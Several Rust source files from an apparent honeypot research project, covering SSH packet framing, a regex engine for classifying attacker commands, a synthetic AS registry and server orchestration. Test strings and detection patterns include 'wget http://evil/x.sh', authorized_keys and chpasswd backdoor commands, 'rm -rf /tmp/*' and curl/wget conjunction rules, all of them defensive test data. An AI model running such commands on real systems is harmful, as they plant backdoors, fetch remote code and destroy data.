                Ok(true) => {
                    let (conn, _) = conns.swap_remove(i);
                    let record = conn.finish(ctx.sensor, &ctx.stats);
                    // Mirror the exact record the store receives to the
                    // live aggregator (a clone over mpsc — no locks, no
                    // blocking; a dead aggregator just fails the send).
                    let _ = ctx.agg_tx.send(AggEvent::Session(Box::new(record.clone())));
                    ctx.collector.ingest(record);
                }
                Err(payload) => {
                    // Contained: record a failed session from plain
                    // fields only (the machine may be poisoned), release
                    // the slot via the permit, keep the shard alive.
                    let message = panic_message(payload.as_ref());
                    let _ = message; // diagnostics live in the counters
                    ctx.stats.panics_caught.fetch_add(1, Ordering::Relaxed);
                    let (conn, _) = conns.swap_remove(i);
                    let record = conn.into_failed(ctx.sensor);
                    let _ = ctx.agg_tx.send(AggEvent::Session(Box::new(record.clone())));
                    ctx.collector.ingest(record);
                }
            }
        }

        if conns.is_empty() {
            // Exit once the accept side has hung up (it drops its senders
            // when it observes shutdown, disconnecting the channel) —
            // late-admitted sockets arrive through the intake loop above
            // first, so no gate slot is ever stranded.
            if !intake_open {
                return;
            }
            std::thread::sleep(Duration::from_millis(1));
        } else {
            // Tiny yield between poll rounds; the pump loop itself runs
            // until it stops making progress.
            std::thread::sleep(Duration::from_micros(200));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv6Addr;

    #[test]
    fn serve_report_render_and_api_json_agree() {
        let report = ServeReport::sample();
        let text = report.render();
        assert!(text.starts_with("final: accepted=202"));
        assert!(text.contains("collector: 200 accepted, 0 dropped, 0 quarantined"));
        let doc = report.api_json();
        assert_eq!(
            doc.get("kind").and_then(hutil::Json::as_str),
            Some("serve_report")
        );
        let data = doc.get("data").unwrap();
        assert_eq!(
            data.get("counters")
                .and_then(|c| c.get("accepted"))
                .and_then(hutil::Json::as_i64),
            Some(202)
        );
        assert_eq!(
            data.get("ingest")
                .and_then(|c| c.get("accepted"))
                .and_then(hutil::Json::as_i64),
            Some(200)
        );
    }

    #[test]
    fn fold_preserves_v4_addresses() {
        let ip = IpAddr::V4(std::net::Ipv4Addr::new(203, 0, 113, 9));
        assert_eq!(
            fold_peer_ip(ip),
            netsim::Ipv4Addr::from_octets(203, 0, 113, 9)
        );
    }

    #[test]
    fn fold_gives_distinct_v6_peers_distinct_reserved_slots() {
        let a = fold_peer_ip(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1)));
        let b = fold_peer_ip(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 2)));
        let loopback = fold_peer_ip(IpAddr::V6(Ipv6Addr::LOCALHOST));
        assert_ne!(a, b, "distinct v6 peers must not share a per-IP slot");
        for ip in [a, b, loopback] {
            assert_eq!(ip.0 >> 24, 240, "v6 folds into reserved 240/8: {}", ip.0);
        }
        // Stable: the same peer always folds to the same slot.
        assert_eq!(
            a,
            fold_peer_ip(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1)))
        );
    }
}
