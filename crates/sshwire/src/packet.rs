//! Binary Packet Protocol framing (RFC 4253 §6).
//!
//! Layout: `uint32 packet_length ‖ byte padding_length ‖ payload ‖ padding`
//! where `packet_length = 1 + len(payload) + len(padding)` and the total
//! size `4 + packet_length` is a multiple of the cipher block size (8 for
//! the "none" cipher). Padding is 4–255 bytes.
//!
//! After `SSH_MSG_NEWKEYS`, packets additionally carry a 16-byte integrity
//! tag: `SHA-256(session_key ‖ seq ‖ packet)[..16]`. Real SSH would encrypt
//! too; the honeypot deliberately does not (see crate docs).

use crate::SshError;
use bytes::{Buf, BufMut, Bytes, BytesMut};
use hutil::Sha256;

/// Block granularity for the "none" cipher.
const BLOCK: usize = 8;
/// Minimum padding per RFC 4253.
const MIN_PAD: usize = 4;
/// Integrity tag length once keys are in effect.
pub const TAG_LEN: usize = 16;
/// Upper bound we accept for a single packet (RFC minimum requirement is
/// 35000; bots never legitimately exceed it).
pub const MAX_PACKET: usize = 35_000;

/// Framer/deframer for one direction of a connection.
///
/// Tracks the implicit packet sequence number and, once
/// [`PacketCodec::enable_integrity`] is called (on NEWKEYS), appends and
/// verifies tags.
#[derive(Debug, Clone)]
pub struct PacketCodec {
    seq: u32,
    key: Option<[u8; 32]>,
}

impl Default for PacketCodec {
    fn default() -> Self {
        Self::new()
    }
}

impl PacketCodec {
    /// A codec in the initial (no integrity) state.
    pub fn new() -> Self {
        Self { seq: 0, key: None }
    }

    /// Switches on integrity tagging with the given session key. Applies to
    /// packets *after* this call, mirroring NEWKEYS semantics.
    pub fn enable_integrity(&mut self, key: [u8; 32]) {
        self.key = Some(key);
    }

    /// Current sequence number (next packet to be sealed/opened).
    pub fn seq(&self) -> u32 {
        self.seq
    }

    /// Frames `payload` into a wire packet, advancing the sequence number.
    pub fn seal(&mut self, payload: &[u8]) -> Bytes {
        assert!(payload.len() <= MAX_PACKET, "payload too large");
        // Choose padding so that 4 + 1 + payload + pad ≡ 0 (mod BLOCK).
        let unpadded = 4 + 1 + payload.len();
        let mut pad = BLOCK - (unpadded % BLOCK);
        while pad < MIN_PAD {
            pad += BLOCK;
        }
        let packet_length = (1 + payload.len() + pad) as u32;
        let mut out = BytesMut::with_capacity(4 + packet_length as usize + TAG_LEN);
        out.put_u32(packet_length);
        out.put_u8(pad as u8);
        out.put_slice(payload);
        // Deterministic padding: a fixed rotating pattern keyed by seq. Real
        // implementations use random bytes; determinism aids replay tests
        // and the bytes are never interpreted.
        for i in 0..pad {
            out.put_u8((self.seq as usize + i) as u8);
        }
        if let Some(key) = &self.key {
            let tag = integrity_tag(key, self.seq, &out);
            out.put_slice(&tag);
        }
        self.seq = self.seq.wrapping_add(1);
        out.freeze()
    }

    /// Attempts to extract one packet from the front of `buf`.
    ///
    /// Returns `Ok(Some(payload))` and consumes the packet bytes on
    /// success; `Ok(None)` if `buf` does not yet hold a complete packet;
    /// `Err` on malformed framing or a bad tag.
    pub fn open(&mut self, buf: &mut BytesMut) -> Result<Option<Bytes>, SshError> {
        if buf.len() < 5 {
            return Ok(None);
        }
        let packet_length = u32::from_be_bytes([buf[0], buf[1], buf[2], buf[3]]) as usize;
        if !(1 + MIN_PAD..=MAX_PACKET).contains(&packet_length) {
            return Err(SshError::Framing(format!(
                "bad packet length {packet_length}"
            )));
        }
        if !(4 + packet_length).is_multiple_of(BLOCK) {
            return Err(SshError::Framing("packet not block-aligned".into()));
        }
        let tag_len = if self.key.is_some() { TAG_LEN } else { 0 };
        let total = 4 + packet_length + tag_len;
        if buf.len() < total {
            return Ok(None);
        }
        let pad = buf[4] as usize;
        if pad < MIN_PAD || pad + 1 > packet_length {
            return Err(SshError::Framing(format!("bad padding length {pad}")));
        }
        if let Some(key) = &self.key {
            let body = &buf[..4 + packet_length];
            let want = integrity_tag(key, self.seq, body);
            let got = &buf[4 + packet_length..total];
            if got != want {
                return Err(SshError::Framing("integrity tag mismatch".into()));
            }
        }
        let mut packet = buf.split_to(total);
        packet.advance(5);
        let payload_len = packet_length - 1 - pad;
        let payload = packet.split_to(payload_len).freeze();
        self.seq = self.seq.wrapping_add(1);
        Ok(Some(payload))
    }
}

fn integrity_tag(key: &[u8; 32], seq: u32, packet: &[u8]) -> [u8; TAG_LEN] {
    let mut h = Sha256::new();
    h.update(key);
    h.update(&seq.to_be_bytes());
    h.update(packet);
    let full = h.finalize();
    let mut tag = [0u8; TAG_LEN];
    tag.copy_from_slice(&full[..TAG_LEN]);
    tag
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_various_sizes() {
        let mut tx = PacketCodec::new();
        let mut rx = PacketCodec::new();
        for n in [0usize, 1, 7, 8, 9, 255, 256, 1000] {
            let payload: Vec<u8> = (0..n).map(|i| i as u8).collect();
            let wire = tx.seal(&payload);
            assert_eq!((wire.len()) % BLOCK, 0, "wire not block aligned for n={n}");
            let mut buf = BytesMut::from(&wire[..]);
            let got = rx.open(&mut buf).unwrap().expect("complete packet");
            assert_eq!(&got[..], &payload[..]);
            assert!(buf.is_empty());
        }
    }

    #[test]
    fn partial_input_returns_none_without_consuming() {
        let mut tx = PacketCodec::new();
        let wire = tx.seal(b"hello world");
        let rx = PacketCodec::new();
        for cut in 0..wire.len() {
            let mut buf = BytesMut::from(&wire[..cut]);
            assert_eq!(rx.clone().open(&mut buf).unwrap(), None, "cut={cut}");
            assert_eq!(buf.len(), cut, "must not consume partial packet");
        }
    }

    #[test]
    fn multiple_packets_in_one_buffer() {
        let mut tx = PacketCodec::new();
        let mut buf = BytesMut::new();
        buf.extend_from_slice(&tx.seal(b"one"));
        buf.extend_from_slice(&tx.seal(b"two"));
        let mut rx = PacketCodec::new();
        assert_eq!(&rx.open(&mut buf).unwrap().unwrap()[..], b"one");
        assert_eq!(&rx.open(&mut buf).unwrap().unwrap()[..], b"two");
        assert_eq!(rx.open(&mut buf).unwrap(), None);
    }

    #[test]
    fn integrity_tag_detects_flips() {
        let key = [7u8; 32];
        let mut tx = PacketCodec::new();
        tx.enable_integrity(key);
        let wire = tx.seal(b"exec: wget http://evil/x.sh");
        let mut rx = PacketCodec::new();
        rx.enable_integrity(key);
        // Pristine copy opens fine.
        let mut ok = BytesMut::from(&wire[..]);
        assert!(rx.clone().open(&mut ok).unwrap().is_some());
        // Any single bit flip in the body is caught.
        for i in [5usize, 10, wire.len() - TAG_LEN - 1] {
            let mut bad = BytesMut::from(&wire[..]);
            bad[i] ^= 1;
            assert!(
                matches!(rx.clone().open(&mut bad), Err(SshError::Framing(_))),
                "flip at {i} not caught"
            );
        }
    }

    #[test]
    fn integrity_requires_matching_seq() {
        let key = [1u8; 32];
        let mut tx = PacketCodec::new();
        tx.enable_integrity(key);
        let _skip = tx.seal(b"first");
        let second = tx.seal(b"second");
        let mut rx = PacketCodec::new();
        rx.enable_integrity(key);
        // rx is at seq 0 but the packet was sealed at seq 1 → replay detected.
        let mut buf = BytesMut::from(&second[..]);
        assert!(matches!(rx.open(&mut buf), Err(SshError::Framing(_))));
    }

    #[test]
    fn rejects_hostile_lengths() {
        let mut rx = PacketCodec::new();
        // Absurd length field.
        let mut buf = BytesMut::from(&[0xff, 0xff, 0xff, 0xff, 0x04, 0, 0, 0][..]);
        assert!(matches!(rx.open(&mut buf), Err(SshError::Framing(_))));
        // Padding claims more than the packet holds.
        let mut tx = PacketCodec::new();
        let wire = tx.seal(b"x");
        let mut evil = BytesMut::from(&wire[..]);
        evil[4] = 0xff;
        assert!(matches!(rx.open(&mut evil), Err(SshError::Framing(_))));
    }
}
