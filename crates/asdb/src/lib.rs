//! `asdb` — a synthetic Autonomous System registry with historic lookups.
//!
//! The paper enriches every malware-storage and client IP with AS
//! information *as of the session time*, using a historic-WHOIS service
//! plus bgp.tools/PeeringDB type tags (paper §3.5). This crate provides the
//! same query surface over a seeded synthetic registry:
//!
//! * [`AsRecord`] — registration date, organisation, type tag, announced
//!   prefixes with validity windows, optional "down" date.
//! * [`AsRegistry::lookup`] — `(IP, date) → AS` honouring announcement
//!   windows, mirroring the back-to-the-future-WHOIS interface.
//! * [`AsRegistry::size_24s`] — deaggregated /24 count (Fig. 8b's metric).
//! * [`gen`] — the seeded generator whose marginals are calibrated to the
//!   paper's findings (age and size distributions of storage ASes, type mix
//!   of client vs storage networks).

pub mod gen;
pub mod registry;

pub use gen::{generate, GenConfig, RegistryBuilderExt, SynthWorld};
pub use registry::{Announcement, AsRecord, AsRegistry, AsType};
