//! `sregex` — a small byte-oriented backtracking regular-expression engine.
//!
//! The paper's command classifier (Table 1) consists of 58 hand-written
//! Python `re` patterns that lean heavily on constructs the mainstream Rust
//! `regex` crate deliberately does not support — above all **lookahead**
//! (`(?=…)`), which the authors use to express order-free conjunctions such
//! as `(?=.*curl)(?=.*wget)`. Since the allowed dependency set contains no
//! regex crate anyway, this crate implements the required subset from
//! scratch:
//!
//! * literals, `.` (any byte except `\n`), escapes incl. `\xHH`
//! * character classes `[a-z0-9_]`, negation, ranges, class escapes
//! * predefined classes `\d \D \s \S \w \W`
//! * anchors `^` `$`, word boundaries `\b` `\B`
//! * grouping `(…)`, non-capturing `(?:…)`, lookahead `(?=…)` / `(?!…)`
//! * alternation `|`
//! * quantifiers `* + ?` and bounded `{n}` `{n,}` `{n,m}`, each with a lazy
//!   `?` variant
//!
//! Matching follows Python `re.search` semantics (leftmost match anywhere in
//! the haystack, earliest alternative preferred). The engine is a classic
//! backtracking VM with an explicit stack and a step budget that turns
//! pathological backtracking into a clean [`Regex::is_match`] `false` plus a
//! saturation flag rather than a hang — honeypot command lines are attacker
//! controlled, so the classifier must be robust to adversarial input.

mod ast;
mod compile;
mod parser;
pub mod prefilter;
mod set;
mod vm;

pub use ast::{Ast, ClassItem};
pub use parser::ParseError;
pub use prefilter::{required_literals, AhoCorasick};
pub use set::RegexSet;

use compile::Program;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// A compiled regular expression.
#[derive(Debug, Clone)]
pub struct Regex {
    pattern: String,
    prog: Program,
    /// Fast path: the whole pattern is a byte literal (no metacharacters),
    /// so matching is plain substring search.
    literal: Option<Vec<u8>>,
    /// Fast path: the pattern is a conjunction of top-level lookaheads
    /// (`(?=…)(?=…)…`), whose search outcome is fully decided at offset 0 —
    /// each lookahead body begins with `.*`-equivalent scanning, so failing
    /// at the start implies failing at every later start.
    pure_lookahead: bool,
    /// Searches in which the step budget was exhausted at one or more start
    /// positions (counted once per search). Shared across clones so the
    /// owner of the original `Regex` observes exhaustions wherever they
    /// happen.
    exhaustions: Arc<AtomicU64>,
}

/// Default backtracking step budget per match attempt. Generous enough for
/// every Table 1 pattern on multi-kilobyte command lines, small enough to
/// bound adversarial inputs.
pub const DEFAULT_STEP_LIMIT: usize = 1_000_000;

impl Regex {
    /// Parses and compiles `pattern`.
    pub fn new(pattern: &str) -> Result<Self, ParseError> {
        let ast = parser::parse(pattern)?;
        Ok(Self::from_parsed(pattern, &ast))
    }

    /// Compiles an already-parsed pattern (lets [`RegexSet`] parse once and
    /// reuse the AST for literal extraction).
    pub(crate) fn from_parsed(pattern: &str, ast: &Ast) -> Self {
        Self {
            pattern: pattern.to_string(),
            literal: extract_literal(ast),
            pure_lookahead: is_dotstar_lookahead_conjunction(ast),
            prog: compile::compile(ast),
            exhaustions: Arc::new(AtomicU64::new(0)),
        }
    }

    /// The source pattern.
    pub fn pattern(&self) -> &str {
        &self.pattern
    }

    /// Number of searches in which the backtracking budget ran out at one
    /// or more start positions. Such searches report "no match" for the
    /// affected starts (preserving the engine's bounded-time guarantee), so
    /// a non-zero counter means some haystacks may have been classified
    /// without a full verdict. Clones share the counter.
    pub fn budget_exhaustions(&self) -> u64 {
        self.exhaustions.load(Ordering::Relaxed)
    }

    /// `re.search`-style containment test.
    pub fn is_match(&self, haystack: &str) -> bool {
        self.find(haystack).is_some()
    }

    /// Finds the leftmost match and returns its byte span `[start, end)`.
    pub fn find(&self, haystack: &str) -> Option<(usize, usize)> {
        let bytes = haystack.as_bytes();
        // Literal fast path: plain substring search.
        if let Some(lit) = &self.literal {
            if lit.is_empty() {
                return Some((0, 0));
            }
            return bytes
                .windows(lit.len())
                .position(|w| w == &lit[..])
                .map(|p| (p, p + lit.len()));
        }
        // Pure `(?=.*A)(?=.*B)…` conjunctions: a match at any offset implies
        // a match at the start of that offset's line (each body's leading
        // `.*` absorbs the line prefix), so only line starts need checking.
        let mut counted = false;
        if self.pure_lookahead {
            for start in line_starts(bytes) {
                if let Some(end) = self.exec_counted(bytes, start, &mut counted) {
                    return Some((start, end));
                }
            }
            return None;
        }
        for start in 0..=bytes.len() {
            if let Some(end) = self.exec_counted(bytes, start, &mut counted) {
                return Some((start, end));
            }
        }
        None
    }

    /// Runs the VM at `start`, treating budget exhaustion as "no match at
    /// this start" (the engine's historical behavior) while recording it in
    /// the shared exhaustion counter — at most once per search via
    /// `counted`.
    fn exec_counted(&self, bytes: &[u8], start: usize, counted: &mut bool) -> Option<usize> {
        match vm::exec_checked(&self.prog, bytes, start, DEFAULT_STEP_LIMIT) {
            Ok(end) => end,
            Err(()) => {
                if !*counted {
                    *counted = true;
                    self.exhaustions.fetch_add(1, Ordering::Relaxed);
                }
                None
            }
        }
    }

    /// Like [`Regex::find`], but with a caller-chosen backtracking budget.
    /// Returns `Err(StepLimitExceeded)` if any start position exhausts it.
    pub fn find_bounded(
        &self,
        haystack: &str,
        step_limit: usize,
    ) -> Result<Option<(usize, usize)>, StepLimitExceeded> {
        let bytes = haystack.as_bytes();
        for start in 0..=bytes.len() {
            match vm::exec_checked(&self.prog, bytes, start, step_limit) {
                Ok(Some(end)) => return Ok(Some((start, end))),
                Ok(None) => {}
                Err(()) => return Err(StepLimitExceeded),
            }
        }
        Ok(None)
    }
}

/// Offsets of position 0 and every byte following a `\n`.
fn line_starts(bytes: &[u8]) -> impl Iterator<Item = usize> + '_ {
    std::iter::once(0).chain(
        bytes
            .iter()
            .enumerate()
            .filter(|(_, b)| **b == b'\n')
            .map(|(i, _)| i + 1),
    )
}

/// If the AST is a plain byte sequence, returns those bytes.
fn extract_literal(ast: &Ast) -> Option<Vec<u8>> {
    fn walk(ast: &Ast, out: &mut Vec<u8>) -> bool {
        match ast {
            Ast::Empty => true,
            Ast::Byte(b) => {
                out.push(*b);
                true
            }
            Ast::Concat(parts) => parts.iter().all(|p| walk(p, out)),
            Ast::Group(inner) => walk(inner, out),
            _ => false,
        }
    }
    let mut out = Vec::new();
    walk(ast, &mut out).then_some(out)
}

/// True when the AST is a concatenation of positive lookaheads whose bodies
/// all begin with a greedy `.*` — the Table 1 conjunction idiom. For such
/// patterns a match at offset `p` implies a match at `p`'s line start
/// (the leading `.*` absorbs the intra-line prefix), which licenses the
/// line-start search shortcut in [`Regex::find`].
fn is_dotstar_lookahead_conjunction(ast: &Ast) -> bool {
    fn body_starts_with_dotstar(ast: &Ast) -> bool {
        let head = match ast {
            Ast::Concat(parts) => match parts.first() {
                Some(h) => h,
                None => return false,
            },
            other => other,
        };
        matches!(
            head,
            Ast::Repeat { node, min: 0, max: None, greedy: true }
                if matches!(**node, Ast::AnyByte)
        )
    }
    fn is_lookahead_with_dotstar(ast: &Ast) -> bool {
        matches!(ast, Ast::Lookahead { positive: true, node } if body_starts_with_dotstar(node))
    }
    match ast {
        Ast::Concat(parts) if !parts.is_empty() => {
            // Allow a trailing `.*` after the lookaheads (some table rows
            // end in `.*`).
            let mut saw_lookahead = false;
            for (i, p) in parts.iter().enumerate() {
                if is_lookahead_with_dotstar(p) {
                    saw_lookahead = true;
                } else if i + 1 == parts.len() && body_starts_with_dotstar(p) {
                    // trailing `.*`
                } else {
                    return false;
                }
            }
            saw_lookahead
        }
        one => is_lookahead_with_dotstar(one),
    }
}

/// The backtracking budget was exhausted before a verdict was reached.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StepLimitExceeded;

impl std::fmt::Display for StepLimitExceeded {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("regex backtracking step limit exceeded")
    }
}

impl std::error::Error for StepLimitExceeded {}

#[cfg(test)]
mod tests {
    use super::*;

    fn m(pat: &str, s: &str) -> bool {
        Regex::new(pat).unwrap().is_match(s)
    }

    #[test]
    fn literal_search() {
        assert!(m("mdrfckr", "echo mdrfckr >> authorized_keys"));
        assert!(!m("mdrfckr", "echo hello"));
    }

    #[test]
    fn dot_and_star() {
        assert!(m("a.*b", "axxxb"));
        assert!(m("a.*b", "ab"));
        assert!(!m("a.*b", "a\nb")); // `.` excludes newline
    }

    #[test]
    fn anchors() {
        assert!(m("^root", "root:admin"));
        assert!(!m("^root", " root"));
        assert!(m("sh$", "/bin/sh"));
        assert!(!m("sh$", "shell"));
    }

    #[test]
    fn classes_and_ranges() {
        assert!(m("[0-9a-fA-F]{8}", "deadBEEF"));
        assert!(!m("^[0-9]+$", "12a4"));
        assert!(m("[^a-z]", "A"));
        assert!(!m("^[^a-z]+$", "abc"));
    }

    #[test]
    fn predefined_classes() {
        assert!(m(r"\d+", "uid=0"));
        assert!(m(r"\s", "a b"));
        assert!(m(r"\w+", "busybox"));
        assert!(m(r"^\S+$", "no-spaces"));
        assert!(!m(r"\d", "abc"));
    }

    #[test]
    fn word_boundary() {
        assert!(m(r"\bcat\b", "busybox cat /proc/self/exe"));
        assert!(!m(r"\bcat\b", "concatenate"));
        assert!(m(r"\becho\b", "echo ok"));
        assert!(m(r"\B", "word")); // interior non-boundary exists
    }

    #[test]
    fn alternation_prefers_leftmost() {
        let re = Regex::new("wget|curl").unwrap();
        assert_eq!(re.find("use curl or wget"), Some((4, 8)));
    }

    #[test]
    fn quantifier_bounds() {
        assert!(m("a{3}", "aaa"));
        assert!(!m("^a{3}$", "aa"));
        assert!(m("^a{2,}$", "aaaa"));
        assert!(!m("^a{2,}$", "a"));
        assert!(m("^a{1,3}$", "aa"));
        assert!(!m("^a{1,3}$", "aaaa"));
        assert!(m("^[A-Za-z0-9]{15,}$", "abcdefghij012345"));
    }

    #[test]
    fn lazy_quantifiers() {
        let re = Regex::new("<.+?>").unwrap();
        assert_eq!(re.find("<a><b>"), Some((0, 3)));
        let greedy = Regex::new("<.+>").unwrap();
        assert_eq!(greedy.find("<a><b>"), Some((0, 6)));
    }

    #[test]
    fn groups_and_nesting() {
        assert!(m("(ab)+", "ababab"));
        assert!(m("(?:wget|curl) http", "curl http://x"));
        assert!(m("a(b(c|d))e", "abde"));
    }

    #[test]
    fn lookahead_conjunction() {
        // The paper's order-free conjunction idiom.
        let re = Regex::new(r"(?=.*curl)(?=.*wget)").unwrap();
        assert!(re.is_match("wget x; curl y"));
        assert!(re.is_match("curl y; wget x"));
        assert!(!re.is_match("curl only"));
    }

    #[test]
    fn negative_lookahead() {
        let re = Regex::new(r"^(?!root)\w+").unwrap();
        assert!(re.is_match("admin"));
        assert!(!re.is_match("root"));
    }

    #[test]
    fn hex_escapes() {
        // echo_ok pattern: \x6F\x6B == "ok".
        assert!(m(r"\x6F\x6B", "echo ok"));
        assert!(m(r"\x45\x4c\x46", "ELF"));
    }

    #[test]
    fn escaped_metacharacters() {
        assert!(m(r"update\.sh", "sh update.sh"));
        assert!(!m(r"update\.sh", "update-sh"));
        assert!(m(r"/tmp/\*", "rm -rf /tmp/*"));
        assert!(m(r"a\|b", "a|b"));
    }

    #[test]
    fn class_with_escapes_inside() {
        assert!(m(r"[\d\s]+", "4 2"));
        assert!(m(r"[\]]", "]"));
        assert!(m(r"[.]", "."));
        assert!(!m(r"[.]", "x"));
    }

    #[test]
    fn empty_pattern_matches_empty() {
        assert!(m("", ""));
        assert!(m("", "anything"));
    }

    #[test]
    fn find_span_is_byte_accurate() {
        let re = Regex::new(r"\d{4}").unwrap();
        assert_eq!(re.find("port 1337 open"), Some((5, 9)));
    }

    #[test]
    fn pathological_pattern_is_bounded() {
        let re = Regex::new("(a+)+$").unwrap();
        let s = "a".repeat(64) + "b";
        // Budget exhaustion surfaces as an explicit error, not a hang.
        assert_eq!(re.find_bounded(&s, 10_000), Err(StepLimitExceeded));
    }

    #[test]
    fn budget_exhaustion_is_counted_not_silent() {
        let re = Regex::new("(a+)+$").unwrap();
        assert_eq!(re.budget_exhaustions(), 0);
        let s = "a".repeat(64) + "b";
        // The search still answers (bounded-time guarantee)…
        assert!(!re.is_match(&s));
        // …but the exhaustion is now observable: once per search.
        assert_eq!(re.budget_exhaustions(), 1);
        assert!(!re.is_match(&s));
        assert_eq!(re.budget_exhaustions(), 2);
        // Clones share the counter.
        let clone = re.clone();
        assert!(!clone.is_match(&s));
        assert_eq!(re.budget_exhaustions(), 3);
        // Healthy searches leave it untouched.
        assert!(re.is_match("aaa"));
        assert_eq!(re.budget_exhaustions(), 3);
    }

    #[test]
    fn table1_representatives() {
        // A selection of real Table 1 rules against realistic sessions.
        assert!(m(r"uname\s+-s\s+-v\s+-n\s+-r\s+-m", "uname -s -v -n -r -m"));
        assert!(m(
            r"/bin/busybox\s+cat\s+/proc/self/exe\s*\|\|\s*cat\s+/proc/self/exe",
            "/bin/busybox cat /proc/self/exe || cat /proc/self/exe"
        ));
        assert!(m(
            r"root:[A-Za-z0-9]{15,}\|chpasswd",
            r"echo root:Ab0Cd1Ef2Gh3Jk4X|chpasswd"
        ));
        assert!(m(
            r"ssh-rsa\s+AAAAB3NzaC1yc2EAAAADAQABA",
            "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB"
        ));
        assert!(m(
            r"\becho\b\s+[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}",
            "echo deadbeef-dead-beef-dead-beefdeadbeef"
        ));
        assert!(m(
            r"(?=.*Password123)(?=.*daemon)",
            "useradd daemon; echo Password123"
        ));
        assert!(m(r"openssl passwd -1 \S{8}", "openssl passwd -1 Xy12Zw34"));
    }

    #[test]
    fn literal_fast_path_agrees_with_engine() {
        let re = Regex::new("mdrfckr").unwrap();
        assert!(re.literal.is_some());
        assert_eq!(re.find("xx mdrfckr yy"), Some((3, 10)));
        assert_eq!(re.find("nope"), None);
        // Patterns with metacharacters do not take the literal path.
        assert!(Regex::new(r"md\s+rfckr").unwrap().literal.is_none());
        assert!(Regex::new("a|b").unwrap().literal.is_none());
    }

    #[test]
    fn lookahead_conjunction_fast_path_is_multiline_correct() {
        let re = Regex::new(r"(?=.*curl)(?=.*wget)").unwrap();
        assert!(re.pure_lookahead);
        // Same line: match.
        assert!(re.is_match("first\nuse curl and wget here\nlast"));
        // Tools on different lines: no single position sees both
        // (`.` does not cross newlines) — Python agrees.
        assert!(!re.is_match("curl here\nwget there"));
        // Non-dotstar lookaheads must NOT take the shortcut.
        let anchored = Regex::new(r"(?=curl)").unwrap();
        assert!(!anchored.pure_lookahead);
        assert!(anchored.is_match("use curl"));
        // Negative lookaheads must not take it either.
        assert!(!Regex::new(r"(?!.*curl)(?=.*wget)").unwrap().pure_lookahead);
    }

    #[test]
    fn conjunction_with_trailing_dotstar_still_fast() {
        let re = Regex::new(r"(?=.*Password123)(?=.*daemon).*").unwrap();
        assert!(re.pure_lookahead);
        assert!(re.is_match("useradd daemon; echo Password123"));
        assert!(!re.is_match("useradd daemon"));
    }

    #[test]
    fn large_haystack_conjunction_is_fast() {
        // 100 curl commands joined by newlines ≈ the curl_maxred session
        // shape; the shortcut keeps this linear-ish.
        let line = "curl https://203.0.113.7/ -s -X GET --max-redirs 5 --cookie 'k=v'";
        let big = vec![line; 200].join("\n");
        let re = Regex::new(r"(?=.*curl)(?=.*echo)(?=.*ftp)(?=.*wget)").unwrap();
        let t = std::time::Instant::now();
        assert!(!re.is_match(&big));
        assert!(t.elapsed().as_millis() < 500, "took {:?}", t.elapsed());
    }

    #[test]
    fn parse_errors_are_reported() {
        assert!(Regex::new("a{2,1}").is_err());
        assert!(Regex::new("(unclosed").is_err());
        assert!(Regex::new("[unclosed").is_err());
        assert!(Regex::new("*dangling").is_err());
        assert!(Regex::new(r"\x0g").is_err());
        assert!(Regex::new("a)b").is_err());
    }
}
