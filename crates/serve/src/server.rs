//! Server orchestration: listeners, sharded accept loops, worker pool,
//! stats thread, graceful drain.

use crate::conn::{now_unix, Conn, LiveHandler, SensorIdentity, SharedStore};
use crate::{Admission, Gate, ServeConfig, ServeError, ServeStats, StatsSnapshot};
use honeypot::shell::NullStore;
use honeypot::{AuthPolicy, Collector, CollectorError, IngestStats};
use sessiondb::StoreWriter;
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc::{Receiver, Sender, TryRecvError};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Which protocol a listener serves.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Proto {
    Ssh,
    Telnet,
}

/// An admitted connection in flight from an accept thread to its shard.
struct Admitted {
    stream: TcpStream,
    client_ip: netsim::Ipv4Addr,
    client_port: u16,
    proto: Proto,
    start_unix: i64,
    seq: u64,
}

/// The live serving layer. See the crate docs for the architecture.
pub struct Server;

impl Server {
    /// Binds listeners, spawns the accept/worker/stats threads, and
    /// returns a handle. Downloads resolve against [`NullStore`] (every
    /// fetch 404s), which is what a production honeypot wants.
    pub fn start(cfg: ServeConfig) -> Result<ServerHandle, ServeError> {
        Self::start_with_store(cfg, Arc::new(NullStore))
    }

    /// Like [`Server::start`] with an explicit download store (tests use
    /// this to serve known payloads).
    pub fn start_with_store(
        cfg: ServeConfig,
        remote: SharedStore,
    ) -> Result<ServerHandle, ServeError> {
        if cfg.ssh_port.is_none() && cfg.telnet_port.is_none() {
            return Err(ServeError::NoListeners);
        }

        let collector = Arc::new(match &cfg.store_dir {
            Some(dir) => {
                let writer = StoreWriter::with_rows_per_segment(dir, cfg.rows_per_segment)
                    .map_err(|e| ServeError::Store {
                        message: e.to_string(),
                    })?;
                Collector::with_sink(cfg.collector.clone(), Box::new(writer))
            }
            None => Collector::with_config(cfg.collector.clone()),
        });

        let mut listeners = Vec::new();
        for (port, proto) in [(cfg.ssh_port, Proto::Ssh), (cfg.telnet_port, Proto::Telnet)] {
            let Some(port) = port else { continue };
            let addr = SocketAddr::new(cfg.bind, port);
            let listener = TcpListener::bind(addr).map_err(|e| ServeError::Bind {
                addr: addr.to_string(),
                source: e,
            })?;
            listener
                .set_nonblocking(true)
                .map_err(|e| ServeError::Bind {
                    addr: addr.to_string(),
                    source: e,
                })?;
            listeners.push((listener, proto));
        }

        let stats = Arc::new(ServeStats::default());
        let gate = Arc::new(Gate::new(cfg.max_connections, cfg.per_ip_limit));
        let shutdown = Arc::new(AtomicBool::new(false));
